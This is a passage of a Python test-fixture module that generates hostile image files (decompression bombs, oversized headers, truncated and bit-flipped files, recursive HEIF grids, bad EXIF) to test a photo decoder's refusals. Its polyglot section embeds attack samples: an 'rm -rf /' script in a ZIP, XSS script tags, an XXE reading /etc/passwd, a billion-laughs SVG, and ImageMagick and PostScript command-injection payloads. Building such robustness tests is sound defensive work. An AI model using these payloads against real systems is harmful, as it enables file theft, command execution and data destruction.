"""Files that somebody might send to hurt a decoder: bombs, damage, polyglots, and garbage in every side note.

All are made here. `corpus()` gives each with what is to become of it.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import numpy as np
from photos import apple_heic, apple_makernote, chart, encode, exif_block, icc_profile, matrix_profile, ultra_hdr_jpeg
from PIL import Image

ACCEPTED = "accepted"
BAD, CUT, LARGE, OTHER = "bad_photo", "truncated_photo", "photo_too_large", "unsupported_format"
ANY = frozenset((ACCEPTED, BAD, CUT, LARGE, OTHER))  # of damage, which may be where it does not matter

GARBAGE = random.Random(7).randbytes(60_000)


@dataclass(frozen=True)
class Hostile:
    """A file and what may become of it: `ACCEPTED`, or the code of the refusal."""

    name: str
    content: bytes
    becomes: frozenset[str]
    damaged: bool = False  # one of very many, made from a good file by chance

    def __str__(self) -> str:
        return self.name


def corpus() -> list[Hostile]:
    """Every file, under a name that no other has."""
    return [*drawn_up(), *by_chance()]


def drawn_up() -> list[Hostile]:
    """The files with a purpose."""
    made = [
        Hostile(
            f"{make.__name__}: {name}", content, becomes if isinstance(becomes, frozenset) else frozenset((becomes,))
        )
        for make in (
            jpeg,
            png,
            webp,
            heif,
            avif,
            polyglot,
            odd,
            exif_of_jpeg,
            exif_elsewhere,
            icc,
            xmp,
        )
        for name, content, becomes in make()
    ]
    return made


Files = Iterator[tuple[str, bytes, str | frozenset[str]]]


def by_chance() -> list[Hostile]:
    """Good files of each format, cut at many places and with bits turned over at others."""
    made = []
    for name, content in good_files().items():
        choose = random.Random(name)
        edges = [1, 2, 3, 4, 11, 12, 13, 20, 24, 32, 40, 63, 64, 65, len(content) - 1, len(content) - 2]
        for at in sorted({*edges, *(choose.randrange(len(content)) for _ in range(8))}):
            made.append(Hostile(f"{name} cut at {at}", content[:at], ANY, damaged=True))
        for turn in range(20):
            damaged = bytearray(content)
            reach = 200 if turn < 10 else len(content)  # headers are where it hurts
            for _ in range(choose.choice((1, 1, 3, 30))):
                damaged[choose.randrange(min(reach, len(content)))] ^= 1 << choose.randrange(8)
            made.append(Hostile(f"{name} with bits turned, {turn}", bytes(damaged), ANY, damaged=True))
    return made


def good_files() -> dict[str, bytes]:
    """One of each format and of each way of coding that matters."""
    pixels = chart()
    exif = exif_block(
        {0x0112: 6}, {0x829A: 0.01, 0x927C: apple_makernote((0, -1, 0), 1.5, 0.01)}, {1: "N", 2: (1, 2, 3)}
    )
    profile = matrix_profile("Display P3")
    gain = chart(48, 32)[..., 0]
    return {
        "JPEG": encode(pixels, "JPEG", exif=exif, icc_profile=profile),
        "progressive JPEG": encode(pixels, "JPEG", progressive=True),
        "Ultra HDR JPEG": ultra_hdr_jpeg(pixels, gain, 'hdrgm:GainMapMax="3"/>'),
        "PNG": encode(pixels, "PNG", exif=exif, icc_profile=profile),
        "transparent PNG": encode(np.dstack([pixels, pixels[..., 0]]), "PNG"),
        "interlaced PNG": interlaced_png(),
        "WebP": encode(pixels, "WEBP", exif=exif, icc_profile=profile),
        "lossless WebP": encode(np.dstack([pixels, pixels[..., 0]]), "WEBP", lossless=True),
        "HEIC": encode(pixels, "HEIF", exif=exif, icc_profile=profile),
        "HEIC with a gain map": apple_heic(pixels, gain, exif=exif, profile=profile, depth=gain),
        "AVIF": encode(pixels, "AVIF", exif=exif, icc_profile=profile, speed=10),
    }


# -- PNG --


def chunk(kind: bytes, content: bytes, length: int | None = None) -> bytes:
    """A PNG chunk; its length may be told wrong."""
    size = struct.pack(">I", len(content) if length is None else length)
    return size + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, bits: int, colour: int, rows: bytes, *extra: bytes, interlace: int = 0) -> bytes:
    """A PNG of a header, further chunks and zlib's stream of rows."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, interlace)
    body = chunk(b"IHDR", header) + b"".join(extra) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


@functools.cache
def zeros(count: int) -> bytes:
    """zlib's stream of that many zeros: a thousandth of them."""
    coder = zlib.compressobj(9)
    block = bytes(1 << 20)
    parts = [coder.compress(block[: min(len(block), count - at)]) for at in range(0, count, len(block))]
    return b"".join(parts) + coder.flush()


def interlaced_png() -> bytes:
    """Adam7, 32 x 32 grey: PNG specification section 8.2."""
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
    picture = chart(32, 32)[..., 0]
    rows = b"".join(b"\0" + row.tobytes() for x, y, dx, dy in passes for row in picture[y::dy, x::dx])
    return png_of(32, 32, 8, 0, zlib.compress(rows), interlace=1)


def _grey(*extra: bytes, rows: bytes | None = None, size: tuple[int, int] = (32, 32)) -> bytes:
    width, height = size
    return png_of(width, height, 8, 0, zlib.compress(bytes((width + 1) * height)) if rows is None else rows, *extra)


def png() -> Files:
    """PNG specification, third edition."""
    yield "4290 megapixels of one bit", png_of(65500, 65500, 1, 0, zeros(1 << 20)), LARGE
    yield "the largest size there is", png_of(2**31 - 1, 2**31 - 1, 8, 2, zeros(1000)), LARGE
    yield "a size beyond the largest", png_of(2**32 - 1, 2**32 - 1, 8, 2, zeros(1000)), LARGE
    yield "110 megapixels of one bit", png_of(11000, 10000, 1, 0, zeros((11000 // 8 + 1) * 10000)), ACCEPTED
    yield "110 megapixels and no rows", png_of(11000, 10000, 8, 6, zlib.compress(b"")), CUT
    yield "256 megabytes behind its rows", _grey(rows=zeros(1 << 28)), ACCEPTED
    yield "a thousand empty pieces of rows", _grey(*[chunk(b"IDAT", b"")] * 1000), ACCEPTED
    for kind, head in ((b"iCCP", b"p\0\0"), (b"zTXt", b"t\0\0"), (b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0")):
        name = kind.decode()
        yield f"256 megabytes in {name}", _grey(chunk(kind, head + zeros(1 << 28))), frozenset((CUT, ACCEPTED))
        yield (
            f"many {name} of a megabyte",
            _grey(*[chunk(kind, head + zeros(1 << 20))] * 300),
            frozenset((CUT, ACCEPTED)),
        )
        yield (
            f"{name} without a coding",
            _grey(chunk(kind, head[:2] + b"\7" + GARBAGE[:50])),
            frozenset((CUT, ACCEPTED)),
        )
        yield f"{name} cut off", _grey(chunk(kind, head[:1])), frozenset((CUT, ACCEPTED))
    yield "a chunk that declares two gigabytes", _grey(chunk(b"tEXt", b"a\0b", length=2**31 - 1)), CUT
    yield "no end", _grey()[:-12], ACCEPTED
    yield "a wrong check sum", _grey()[:30] + b"\0\0\0\0" + _grey()[34:], CUT
    yield "a coding that there is not", png_of(32, 32, 3, 5, zlib.compress(bytes(9999))), CUT
    yield "no width", _grey(size=(0, 32)), frozenset((BAD, CUT))
    yield "neither width nor height", _grey(size=(0, 0)), frozenset((BAD, CUT))
    yield "no palette", png_of(32, 32, 8, 3, zlib.compress(bytes(33 * 32))), frozenset((CUT, ACCEPTED))
    palette = chunk(b"PLTE", bytes(range(9)))
    see_through = chunk(b"tRNS", b"\0\x80")
    yield (
        "a palette that is partly transparent",
        png_of(32, 32, 8, 3, zlib.compress(bytes(33 * 32)), palette, see_through),
        ACCEPTED,
    )
    rows = zlib.compress(b"\0" + b"\xff" * 32 + bytes(33 * 31))
    yield "colours beyond the palette", png_of(32, 32, 8, 3, rows, palette), ACCEPTED
    yield (
        "more transparency than palette",
        png_of(32, 32, 8, 3, zlib.compress(bytes(33 * 32)), palette, chunk(b"tRNS", bytes(999))),
        frozenset((CUT, ACCEPTED)),
    )
    yield "sixteen bits", png_of(32, 32, 16, 2, zlib.compress(bytes((32 * 6 + 1) * 32))), OTHER
    yield (
        "a filter that there is not",
        _grey(rows=zlib.compress((b"\x63" + bytes(32)) * 32)),
        frozenset((CUT, ACCEPTED)),
    )
    yield "interlaced", interlaced_png(), ACCEPTED
    yield (
        "a header twice",
        _grey(chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))),
        frozenset((CUT, LARGE)),
    )
    yield "a header that is short", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0\0\0\x20") + chunk(b"IEND", b""), CUT
    yield "text before its header", b"\x89PNG\r\n\x1a\n" + chunk(b"tEXt", b"a\0" + bytes(40)) + _grey()[8:], ACCEPTED
    frames = struct.pack(">II", 100_000, 0)
    yield "an animation of 100000 frames", _grey(chunk(b"acTL", frames)), OTHER
    yield "an animation without frames", _grey(chunk(b"acTL", bytes(8))), frozenset((OTHER, ACCEPTED))
    pictures = [Image.new("L", (32, 32), shade) for shade in range(200)]
    file = io.BytesIO()
    pictures[0].save(file, "PNG", save_all=True, append_images=pictures[1:])
    yield "an animation", file.getvalue(), OTHER
    yield "a hundred thousand chunks", _grey(*[chunk(b"prIv", b"")] * 100_000), ACCEPTED


# -- JPEG --


def segment(marker: int, content: bytes, length: int | None = None) -> bytes:
    """A JPEG segment; its length may be told wrong."""
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2 if length is None else length) + content


def with_segment(jpeg: bytes, *segments: bytes) -> bytes:
    """The JPEG with further segments behind its first marker."""
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def resized_header(content: bytes, width: int, height: int) -> bytes:
    """The JPEG with another size in its frame header (SOF0 or SOF2)."""
    at = next(at for at in (content.find(b"\xff\xc0"), content.find(b"\xff\xc2")) if at >= 0)
    return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]


def scans(times: int, size: tuple[int, int]) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    content = encode(np.zeros((size[1], size[0], 3), np.uint8), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:-2] + (content[last:-2]) * times + content[-2:]


def jpeg() -> Files:
    """ITU-T T.81, and what Adobe, CIPA and Google put into its segments."""
    whole = encode(chart(), "JPEG")
    progressive = encode(chart(), "JPEG", progressive=True)
    yield "4290 megapixels in the header", resized_header(whole, 65500, 65500), LARGE
    yield "4290 megapixels, progressive", resized_header(progressive, 65500, 65500), LARGE
    yield "110 megapixels and the scan of a small one", resized_header(whole, 11000, 10000), frozenset((CUT, ACCEPTED))
    yield "no width", resized_header(whole, 0, 64), frozenset((BAD, CUT))
    yield "no height", resized_header(whole, 96, 0), frozenset((BAD, CUT))
    yield "five thousand scans", scans(5000, (1600, 1200)), BAD
    yield "five thousand scans of 100 megapixels", scans(5000, (10000, 10000)), BAD
    frame = whole.index(b"\xff\xc0")
    length = 2 + int.from_bytes(whole[frame + 2 : frame + 4], "big")
    header = whole[frame : frame + length]
    larger = resized_header(header + b"\xff", 60000, 60000)[:-1]
    yield (
        "two headers, the second larger",
        whole[: frame + length] + larger + whole[frame + length :],
        frozenset((LARGE, CUT)),
    )
    yield "two headers, the first larger", whole[:frame] + larger + whole[frame:], frozenset((LARGE, CUT))
    yield "a hundred channels", whole[:frame] + header[:9] + b"\x64" + header[10:] + whole[frame + length :], CUT
    yield "twelve bits", whole[: frame + 4] + b"\x0c" + whole[frame + 5 :], CUT
    yield "lossless", whole[: frame + 1] + b"\xc3" + whole[frame + 2 :], CUT
    yield "arithmetic coding", whole[: frame + 1] + b"\xc9" + whole[frame + 2 :], frozenset((CUT, ACCEPTED))
    tables = whole.index(b"\xff\xdb")
    yield "no quantisation", whole[:tables] + whole[frame:], CUT
    yield (
        "no tables of codes",
        whole[: whole.index(b"\xff\xc4")] + whole[whole.index(b"\xff\xda") :],
        frozenset((CUT, ACCEPTED)),
    )
    yield (
        "a table of codes that is garbage",
        with_segment(whole, segment(0xC4, b"\0" + b"\xff" * 16 + GARBAGE[:4080])),
        CUT,
    )
    yield "a segment that has no length", with_segment(whole, segment(0xE3, b"", length=0)), ANY
    yield "a segment longer than the file", whole[:2] + segment(0xE1, b"Exif\0\0", length=65535), CUT
    yield "ten thousand segments", with_segment(whole, *[segment(0xE5, b"x")] * 10_000), ACCEPTED
    yield "a million fill bytes", whole[:2] + b"\xff" * 1_000_000 + whole[2:], frozenset((CUT, ACCEPTED))
    yield "no scan", whole[: whole.index(b"\xff\xda")] + b"\xff\xd9", CUT
    yield "garbage for a scan", whole[: whole.index(b"\xff\xda") + 14] + GARBAGE, ANY
    yield "only markers", b"\xff\xd8" * 30_000, CUT
    yield "restarts everywhere", whole[:-2] + b"\xff\xd0\xff\xd7" * 20_000 + whole[-2:], ACCEPTED
    four = Image.fromarray(chart()).convert("CMYK")
    file = io.BytesIO()
    four.save(file, "JPEG")
    yield "CMYK", file.getvalue(), OTHER
    adobe = segment(0xEE, b"Adobe\0\x64\0\0\0\0\2")
    yield "YCCK of Adobe's", with_segment(file.getvalue(), adobe), OTHER
    yield (
        "a transform that Adobe does not know",
        with_segment(whole, segment(0xEE, b"Adobe\0\x64\0\0\0\0\x63")),
        ACCEPTED,
    )
    for name, index in (
        ("of itself", struct.pack(">IIIHH", 0, len(whole), 0, 0, 0) * 8),
        ("of four gigabytes each", struct.pack(">IIIHH", 0, 2**32 - 1, 2**32 - 1, 0, 0) * 8),
        ("that is garbage", GARBAGE[:128]),
    ):
        directory = struct.pack(">HHHII", 1, 0xB002, 7, len(index), 26) + bytes(4) + index
        yield (
            f"an index of pictures {name}",
            with_segment(whole, segment(0xE2, b"MPF\0MM\0*\0\0\0\x08" + directory)),
            ACCEPTED,
        )
    endless = struct.pack(">HHHII", 1, 0xB002, 7, 2**32 - 1, 26) + struct.pack(">I", 8)
    yield (
        "an index of pictures without end",
        with_segment(whole, segment(0xE2, b"MPF\0MM\0*\0\0\0\x08" + endless)),
        frozenset((CUT, ACCEPTED)),
    )
    gain = chart(48, 32)[..., 0]
    garbled = ultra_hdr_jpeg(chart(), gain, 'hdrgm:GainMapMax="3"/>')
    yield "a gain map that is cut off", garbled[:-200], CUT
    yield (
        "a gain map larger than the picture",
        ultra_hdr_jpeg(chart(), chart(960, 640)[..., 0], 'hdrgm:GainMapMax="3"/>'),
        ACCEPTED,
    )


# -- WebP --


def riff(kind: bytes, content: bytes, length: int | None = None) -> bytes:
    """A chunk of a RIFF file; its length may be told wrong."""
    return kind + struct.pack("<I", len(content) if length is None else length) + content + b"\0" * (len(content) % 2)


def webp_of(*chunks: bytes, length: int | None = None) -> bytes:
    """A WebP file of chunks."""
    return riff(b"RIFF", b"WEBP" + b"".join(chunks), length)


def canvas(width: int, height: int, flags: int = 0) -> bytes:
    """VP8X: RFC 9649 section 2.7."""
    return riff(
        b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    )


def webp() -> Files:
    """RFC 9649."""
    whole = encode(chart(), "WEBP")
    picture = whole[12:]
    yield "268 megapixels in the header", webp_of(canvas(16383, 16383), picture), frozenset((LARGE, CUT))
    yield "a canvas of 281 terapixels", webp_of(canvas(1 << 24, 1 << 24), picture), frozenset((LARGE, CUT))
    at = picture.index(b"\x9d\x01\x2a") + 3
    huge = picture[:at] + struct.pack("<HH", 16383, 16383) + picture[at + 4 :]
    yield "268 megapixels in its one frame", webp_of(huge), frozenset((LARGE, CUT))
    thin = picture[:at] + struct.pack("<HH", 16383, 7000) + picture[at + 4 :]
    yield "115 megapixels and the data of a small one", webp_of(thin), CUT
    yield "no size", webp_of(picture[:at] + bytes(4) + picture[at + 4 :]), CUT
    lossless = b"\x2f" + (16382 | 16382 << 14).to_bytes(4, "little") + GARBAGE[:400]
    yield "268 megapixels, lossless", webp_of(riff(b"VP8L", lossless)), frozenset((LARGE, CUT))
    yield (
        "garbage, lossless",
        webp_of(riff(b"VP8L", b"\x2f" + (63 | 63 << 14).to_bytes(4, "little") + GARBAGE)),
        frozenset((CUT, ACCEPTED)),
    )
    yield "a file of four gigabytes, it says", whole[:4] + b"\xfe\xff\xff\xff" + whole[8:], frozenset((CUT, ACCEPTED))
    yield "a file of no bytes, it says", whole[:4] + bytes(4) + whole[8:], CUT
    yield "a frame of four gigabytes, it says", webp_of(picture[:4] + b"\xff\xff\xff\xff" + picture[8:]), CUT
    yield "no picture", webp_of(canvas(64, 64)), CUT
    yield (
        "ten thousand chunks",
        webp_of(canvas(96, 64), *[riff(b"XXXX", b"")] * 10_000, picture),
        frozenset((CUT, ACCEPTED)),
    )
    yield (
        "pieces of the profile without end",
        webp_of(canvas(96, 64, 0x20), riff(b"ICCP", GARBAGE, 2**31), picture),
        frozenset((CUT, ACCEPTED)),
    )
    frames = [Image.new("RGB", (32, 32), (shade, 0, 255 - shade)) for shade in range(0, 250)]
    file = io.BytesIO()
    frames[0].save(file, "WEBP", save_all=True, append_images=frames[1:])
    yield "an animation", file.getvalue(), OTHER
    head = riff(b"ANIM", bytes(6))
    frame = riff(b"ANMF", bytes(6) + (95).to_bytes(3, "little") + (63).to_bytes(3, "little") + bytes(4) + picture)
    yield "an animation of 10000 frames", webp_of(canvas(96, 64, 2), head, frame * 10_000), OTHER
    yield (
        "an animation on 268 megapixels",
        webp_of(canvas(16383, 16383, 2), head, frame * 3),
        frozenset((LARGE, OTHER, CUT)),
    )
    yield "an animation without frames", webp_of(canvas(96, 64, 2), head), frozenset((CUT, OTHER))
    alpha = riff(b"ALPH", b"\1" + GARBAGE[:500])
    yield "transparency that is garbage", webp_of(canvas(96, 64, 0x10), alpha, picture), frozenset((CUT, ACCEPTED))


# -- HEIF and AVIF --


def patched(content: bytes, kind: bytes, offset: int, value: bytes, which: int = 0) -> bytes:
    """The file with other bytes, so far behind the name of a box."""
    at = -1
    for _ in range(which + 1):
        at = content.index(kind, at + 1)
    at += len(kind) + offset
    return content[:at] + value + content[at + len(value) :]


def every_size(content: bytes, width: int, height: int) -> bytes:
    """The file with another size in all its `ispe`: ISO/IEC 23008-12 section 6.5.3."""
    for which in range(content.count(b"ispe")):
        content = patched(content, b"ispe", 4, struct.pack(">II", width, height), which)
    return content


def box(kind: bytes, content: bytes, size: int | None = None) -> bytes:
    """A box of an ISO media file; its size may be told wrong."""
    return struct.pack(">I4s", 8 + len(content) if size is None else size, kind) + content


def full(kind: bytes, content: bytes, version: int = 0) -> bytes:
    """A box with a version."""
    return box(kind, struct.pack(">I", version << 24) + content)


def grid_heic(
    rows: int, columns: int, size: tuple[int, int], links: tuple[int, ...], told: tuple[int, int] | None = None
) -> bytes:
    """A HEIC that is a grid of the items `links`: 1 is the grid itself, 2 a tile of 64 x 64 pixels."""
    tile = encode(chart(64, 64), "HEIF")
    configuration, coded = (tile[tile.index(kind) - 4 :] for kind in (b"hvcC", b"mdat"))
    configuration = configuration[: int.from_bytes(configuration[:4], "big")]
    coded = coded[8 : int.from_bytes(coded[:4], "big")]
    layout = struct.pack(">BBBBII", 0, 1, rows - 1, columns - 1, *size)
    reference = box(b"dimg", struct.pack(">HH", 1, len(links)) + b"".join(struct.pack(">H", link) for link in links))
    sizes = [full(b"ispe", struct.pack(">II", *shown)) for shown in (told or size, (64, 64))]
    properties = box(b"ipco", sizes[0] + sizes[1] + configuration)
    uses = full(b"ipma", struct.pack(">IHBBHBBB", 2, 1, 1, 1, 2, 2, 2, 0x83))
    places = struct.pack(">HHHHHHII", 0x4400, 2, 1, 1, 0, 1, 0, len(layout))
    places += struct.pack(">HHHHII", 2, 1, 0, 1, len(layout), len(coded))
    items = [
        full(b"infe", struct.pack(">HH", item, 0) + kind + b"\0", 2) for item, kind in ((1, b"grid"), (2, b"hvc1"))
    ]
    meta = full(
        b"meta",
        full(b"hdlr", struct.pack(">I4s12x", 0, b"pict") + b"\0")
        + full(b"pitm", struct.pack(">H", 1))
        + full(b"iloc", places, version=1)
        + full(b"iinf", struct.pack(">H", 2) + b"".join(items))
        + full(b"iref", reference)
        + box(b"iprp", properties + uses)
        + box(b"idat", layout + coded),
    )
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + meta


def heif() -> Files:
    """ISO/IEC 23008-12 and 14496-12."""
    pixels, gain = chart(), chart(48, 32)[..., 0]
    whole = encode(pixels, "HEIF")
    phone = apple_heic(pixels, gain)
    yield "4290 megapixels in the header", every_size(whole, 65500, 65500), frozenset((LARGE, CUT))
    yield "the largest size there is", every_size(whole, 2**32 - 1, 2**32 - 1), frozenset((LARGE, CUT, BAD))
    yield "110 megapixels and the picture of a small one", every_size(whole, 11000, 10000), ANY
    yield "no size", every_size(whole, 0, 0), frozenset((BAD, CUT))
    yield "a size of one pixel", every_size(whole, 1, 1), frozenset((BAD, CUT))
    large = encode(np.zeros((1500, 2000, 3), np.uint8), "HEIF")
    yield "three megapixels that say they are small", every_size(large, 64, 64), frozenset((LARGE, CUT))
    yield "a gain map larger than the picture", apple_heic(pixels, np.zeros((1500, 2000), np.uint8)), ACCEPTED
    yield (
        "a depth map larger than the picture",
        apple_heic(pixels, gain, depth=np.zeros((1500, 2000), np.uint8)),
        ACCEPTED,
    )
    yield "268 megapixels of one tile", grid_heic(256, 256, (16384, 16384), (2,) * 65535), frozenset((LARGE, CUT))
    yield "105 megapixels of one tile", grid_heic(160, 160, (10240, 10240), (2,) * 25600), ANY
    yield (
        "105 megapixels of one tile that say they are small",
        grid_heic(160, 160, (10240, 10240), (2,) * 25600, told=(64, 64)),
        frozenset((LARGE, CUT)),
    )
    yield "a gain map of garbage", phone[:-400] + GARBAGE[:400], ANY
    yield "a grid of itself", grid_heic(1, 1, (64, 64), (1,)), CUT
    yield "a grid of 65536 times itself", grid_heic(256, 256, (16384, 16384), (1,) * 65535), frozenset((LARGE, CUT))
    yield "a grid of what is not there", grid_heic(2, 2, (64, 64), (7, 8, 9, 10)), ANY
    yield "a grid of nothing", grid_heic(1, 1, (64, 64), ()), CUT
    yield "a picture outside the file", patched(whole, b"iloc", 4 + 2 + 2 + 2 + 2 + 2 + 2, b"\x7f\xff\xff\xff"), CUT
    yield "65535 items, it says", patched(whole, b"iinf", 4, b"\xff\xff"), ANY
    yield "65535 places, it says", patched(whole, b"iloc", 6, b"\xff\xff"), CUT
    yield "boxes in boxes in boxes", box(b"ftyp", b"heic\0\0\0\0mif1heic") + nested(2000), CUT
    yield (
        "a box of 16 exabytes",
        whole[:24] + struct.pack(">I4sQ", 1, b"free", 2**64 - 1) + whole[24:],
        frozenset((CUT, ACCEPTED)),
    )
    yield "a box of no bytes", whole[:24] + struct.pack(">I4s", 3, b"free") + whole[24:], CUT
    yield (
        "ten thousand boxes",
        box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"free", b"") * 10_000 + whole[24:],
        frozenset((CUT, ACCEPTED)),
    )
    yield (
        "a hundred thousand properties",
        box(b"ftyp", b"heic\0\0\0\0mif1heic")
        + full(b"meta", box(b"iprp", box(b"ipco", full(b"ispe", bytes(8)) * 100_000))),
        CUT,
    )
    yield "only its name", whole[:24], CUT
    yield "a sequence", box(b"ftyp", b"msf1\0\0\0\0msf1hevc") + whole[24:], OTHER
    yield "a video", box(b"ftyp", b"isom\0\0\0\0isommp42") + box(b"moov", GARBAGE), OTHER
    yield "a name of four gigabytes", b"\xff\xff\xff\xffftypheic" + bytes(60), CUT
    yield "another coding", whole.replace(b"hvc1", b"vvc1"), CUT
    yield "a settings box of garbage", patched(whole, b"hvcC", 0, GARBAGE[:60]), CUT


def nested(depth: int) -> bytes:
    """Boxes in boxes."""
    content = b""
    for _ in range(depth):
        content = full(b"meta", content)
    return content


def avif() -> Files:
    """AV1 Image File Format."""
    whole = encode(chart(), "AVIF", speed=10)
    yield "4290 megapixels in the header", every_size(whole, 65500, 65500), frozenset((LARGE, CUT))
    yield "the largest size there is", every_size(whole, 2**32 - 1, 2**32 - 1), CUT
    yield "110 megapixels and the picture of a small one", every_size(whole, 11000, 10000), ANY
    yield "no size", every_size(whole, 0, 0), CUT
    frames = [Image.new("RGB", (32, 32), (shade, 0, 0)) for shade in range(0, 250, 5)]
    file = io.BytesIO()
    frames[0].save(file, "AVIF", save_all=True, append_images=frames[1:], speed=10)
    yield "an animation", file.getvalue(), OTHER
    yield "a picture outside the file", patched(whole, b"iloc", 16, b"\x7f\xff\xff\xff"), CUT
    yield "65535 places, it says", patched(whole, b"iloc", 6, b"\xff\xff"), CUT
    yield "colours of a kind that there is not", patched(whole, b"colrnclx", 0, b"\xff\xff\xff\xff"), ACCEPTED
    yield "garbage for a picture", whole[: whole.index(b"mdat") + 4] + GARBAGE, CUT
    yield "a HEIC by another name", box(b"ftyp", b"avif\0\0\0\0mif1avif") + encode(chart(), "HEIF")[24:], CUT
    yield (
        "an AVIF by another name",
        whole.replace(b"ftypavif", b"ftypheic", 1).replace(b"avis", b"heic").replace(b"avif", b"heic", 1),
        ANY,
    )


# -- what is two things, or nothing --


def polyglot() -> Files:
    """Files that are two things at once, or that look like a picture to somebody."""
    jpeg, png = encode(chart(), "JPEG"), encode(chart(), "PNG")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as made:
        made.writestr("run.sh", "rm -rf /")
    page = b"<html><body><script>alert(document.domain)</script></body></html>"
    yield "a JPEG and a ZIP", jpeg + archive.getvalue(), ACCEPTED
    yield "a ZIP and a JPEG", archive.getvalue() + jpeg, OTHER
    yield "a PNG and a page", png + page, ACCEPTED
    yield "a page within a PNG", png[:33] + chunk(b"tEXt", b"Comment\0" + page) + png[33:], ACCEPTED
    yield "a page within a JPEG", with_segment(jpeg, segment(0xFE, page)), ACCEPTED
    yield (
        "a script that is a JPEG",
        b"\xff\xd8\xff\xe0\x2f\x2a" + bytes(0x2F2A - 2) + b"*/=alert(1)/*" + jpeg[2:],
        frozenset((CUT, ACCEPTED)),
    )
    yield "a GIF and a page", b"GIF89a/*" + page + b"*/=1;", OTHER
    yield "a PDF and a JPEG", b"%PDF-1.7\n" + jpeg, OTHER
    yield "a page and a JPEG", page + jpeg, OTHER
    yield "a JPEG and a PNG", jpeg + png, ACCEPTED
    yield "a PNG and a thing of a gigabyte, it says", png + struct.pack(">I", 1 << 30) + b"IDAT" + bytes(100), ACCEPTED
    yield "a JPEG and a box of a gigabyte, it says", jpeg + struct.pack(">I4s", 1 << 30, b"mdat"), ACCEPTED
    entities = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    yield "an SVG with a file of ours", entities, OTHER
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "an SVG that laughs", f'<!DOCTYPE svg [<!ENTITY l0 "lol">{laughs}]><svg>&l9;</svg>'.encode(), OTHER
    yield (
        "a script for ImageMagick",
        b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://x/x.php?x=`id`'\npop graphic-context",
        OTHER,
    )
    yield "PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 32 32\n(%pipe%id) (w) file\n", OTHER
    yield "a program", b"\x7fELF" + GARBAGE[:4000], OTHER


def odd() -> Files:
    """Nothing, nearly nothing, and pictures of odd shapes."""
    yield "nothing", b"", CUT
    for name, content in (("a byte", b"\xff"), ("two bytes", b"\xff\xd8"), ("zeros", bytes(5000)), ("noise", GARBAGE)):
        yield name, content, OTHER
    for name, content in (("three bytes of a JPEG", b"\xff\xd8\xff"), ("eight bytes of a PNG", b"\x89PNG\r\n\x1a\n")):
        yield name, content, CUT
    for kind in ("GIF", "TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "SGI", "DDS", "JPEG2000", "EPS", "PDF"):
        yield f"a {kind}", encode(chart(), kind), OTHER
    for kind in ("JPEG", "PNG", "WEBP", "HEIF", "AVIF"):
        made = {"HEIF": "HEIC"}.get(kind, kind)
        if kind != "HEIF":  # nobody codes so small a picture
            yield f"one pixel of {made}", encode(np.zeros((1, 1, 3), np.uint8), kind), BAD
            yield f"a line of {made}", encode(np.zeros((1, 9000, 3), np.uint8), kind), BAD
        yield f"a thread of {made}", encode(np.zeros((64 if kind == "HEIF" else 16, 8000, 3), np.uint8), kind), BAD
        yield f"a strip of {made}", encode(np.zeros((64 if kind == "HEIF" else 16, 640, 3), np.uint8), kind), ACCEPTED
    yield "a column of PNG", encode(np.zeros((60000, 1, 3), np.uint8), "PNG"), BAD
    yield "a tall thread of PNG", encode(np.zeros((60000, 16, 3), np.uint8), "PNG"), BAD
    yield "a tall strip of PNG", encode(np.zeros((4000, 100, 3), np.uint8), "PNG"), ACCEPTED


# -- EXIF --


def tiff(
    *entries: tuple[int, int, int, bytes], behind: bytes = b"", count: int | None = None, following: int = 0
) -> bytes:
    """An EXIF block of one directory, of entries (tag, type, count, value or offset)."""
    directory = struct.pack(">H", len(entries) if count is None else count)
    directory += b"".join(struct.pack(">HHI", *entry[:3]) + entry[3].ljust(4, b"\0") for entry in entries)
    return b"Exif\0\0MM\0*\0\0\0\x08" + directory + struct.pack(">I", following) + behind


def exif_garbage() -> dict[str, bytes]:
    """Blocks that are broken, absurd, or made to be expensive."""
    long = struct.pack(">I", 8)
    made = {
        "a directory that is its own": tiff((0x8769, 4, 1, long), (0x8825, 4, 1, long), following=8),
        "a directory outside": tiff((0x8769, 4, 1, b"\xff\xff\xff\xff"), (0x8825, 4, 1, b"\x7f\xff\xff\xff")),
        "a directory that begins outside": b"Exif\0\0MM\0*\xff\xff\xff\xf0" + GARBAGE[:100],
        "65535 entries, it says": tiff((0x0112, 3, 1, b"\0\1"), count=65535),
        "counts of four billion": tiff(
            *((tag, kind, 2**32 - 1, long) for tag in range(0x100, 0x120) for kind in (2, 5))
        ),
        "types that there are not": tiff(*((0x0112, kind, 1, b"\0\1") for kind in (0, 14, 77, 255, 65535))),
        "numbers where text is due": tiff((0x010F, 5, 1, long), (0x0110, 12, 1, long), (0x8769, 2, 4, b"MM\0*")),
